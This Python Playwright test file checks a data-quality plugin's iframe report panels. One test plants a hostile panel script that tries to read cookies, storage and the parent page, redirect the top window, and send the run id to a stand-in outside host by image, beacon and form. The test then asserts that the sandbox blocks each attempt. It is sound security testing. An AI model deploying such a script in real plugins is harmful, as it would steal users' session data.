"""Reports of plugins, and panels of their own: what they show, and what they can't reach."""
import contextlib
import http.server
import shutil
import threading

from playwright.sync_api import expect

from documents import orders
from served import DIST

RULES = "[{rule: not_null, column: country}, {rule: in_set, column: country, values: [NO], severity: warn}]"


def frame_of(page, title="Data quality rules, panel for rules"):
    return page.frame_locator(f"iframe[title='{title}']")


def test_a_report_and_its_panel_stand_with_the_run_the_dataset_and_the_plugin(house, screens):
    house.save_text(orders("reporting", "reported", RULES))
    run = house.run("reporting")["run"]
    page = screens.open(f"/runs/{run}")
    page.get_by_role("tab", name="Reports").click()
    report = page.get_by_role("region", name="Report of rules")
    expect(report.get_by_role("region", name="Rules of rules")).to_contain_text("in_set")
    panel = frame_of(page)
    expect(panel.get_by_role("button", name="not_null at country: passed")).to_be_visible()
    panel.get_by_role("button", name="in_set at country: warned").click()
    expect(panel.locator("#detail")).to_contain_text("failing rows")
    page.goto("/datasets/reported?tab=quality")
    expect(frame_of(page).get_by_role("heading", name="Rules by column")).to_be_visible()
    page.goto("/plugins/expectations?tab=reports")
    expect(page.get_by_role("region", name="Run of reporting")).to_be_visible()


def test_a_panel_follows_the_theme(house, screens):
    house.save_text(orders("themed", "themed_set", RULES))
    run = house.run("themed")["run"]
    page = screens.open(f"/runs/{run}?tab=reports", color_scheme="light")
    heading = frame_of(page).get_by_role("heading", name="Rules by column")
    expect(heading).to_be_visible()
    light = heading.evaluate("element => getComputedStyle(element).color")
    page.emulate_media(color_scheme="dark")
    expect(heading).not_to_have_css("color", light)


HOSTILE = """<!doctype html><body>hostile<script>
parent.postMessage({ote: 1, type: "ready"}, "*");
addEventListener("message", ({data: message}) => {
  if (message.type === "rows") document.body.append(message.problem ? " refused " : " rows ");
  if (message.type !== "data") return;
  const tried = (name, act) => { try { document.body.append(` ${name}:${act()} `); } catch (error) { document.body.append(` ${name}:${error.name} `); } };
  tried("cookie", () => document.cookie);
  tried("page", () => parent.document.title);
  tried("storage", () => localStorage.length);
  tried("popup", () => open("@OUT@/popup"));
  tried("top", () => { top.location = "@OUT@/top"; });
  tried("image", () => { new Image().src = "@OUT@/image?" + message.data.run; });
  tried("beacon", () => navigator.sendBeacon("@OUT@/beacon", message.data.run));
  tried("form", () => { const form = document.createElement("form"); form.action = "@OUT@/form"; document.body.append(form); form.submit(); });
  tried("script", () => { const script = document.createElement("script"); script.src = "@OUT@/script.js"; document.body.append(script); });
  fetch("/api/v1/session").then(() => document.body.append(" fetched "), () => document.body.append(" no-fetch "));
  for (let id = 0; id < 9; id += 1) parent.postMessage({ote: 1, type: "rows", id, finding: 1, limit: 1}, "*");
});
addEventListener("message", ({data: message}) => { if (message === "leave") location.href = "@OUT@/self"; });
</script></body>"""


@contextlib.contextmanager
def outside():
    """Another server; what it was asked for is what got out."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_a_hostile_panel_reaches_nothing_and_is_closed_when_it_leaves(own_host, screens_of):
    with outside() as (address, asked):
        served = own_host("local-files", "duckdb")
        folder = served.plugin_folder / "expectations"
        shutil.copytree(DIST / "plugins/expectations", folder)
        (folder / "panel.html").write_text(HOSTILE.replace("@OUT@", address))
        served.enable_folder(folder)
        served.take_over()
        served.call("POST", "/plugins/scan")
        served.save_text(orders("watched", "watched_set", RULES))
        run = served.run("watched")["run"]
        screens = screens_of(served)
        page = screens.open(f"/runs/{run}?tab=reports")
        body = frame_of(page).locator("body")
        for refused in ("cookie:SecurityError", "page:SecurityError", "storage:SecurityError", "popup:null", "top:SecurityError", "no-fetch", "refused"):
            expect(body).to_contain_text(refused)
        expect(body).to_contain_text("rows rows rows rows")
        expect(body).not_to_contain_text("rows rows rows rows rows")
        page.locator("iframe").evaluate("frame => frame.contentWindow.postMessage('leave', '*')")
        expect(page.get_by_text("went to another page, so it was closed")).to_be_visible()
        expect(page.locator("iframe")).to_have_count(0)
        assert page.url.endswith("?tab=reports") and len(page.context.pages) == 1
        assert asked == []
    # The browser says what it refused; anything else would be a fault.
    words = ("Security Policy", "sandboxed", "Unsafe attempt", "ERR_BLOCKED")
    refusals = [complaint for complaint in screens.complaints if any(word in complaint for word in words)]
    assert refusals
    assert [complaint for complaint in screens.complaints if complaint not in refusals] == []
    screens.complaints.clear()
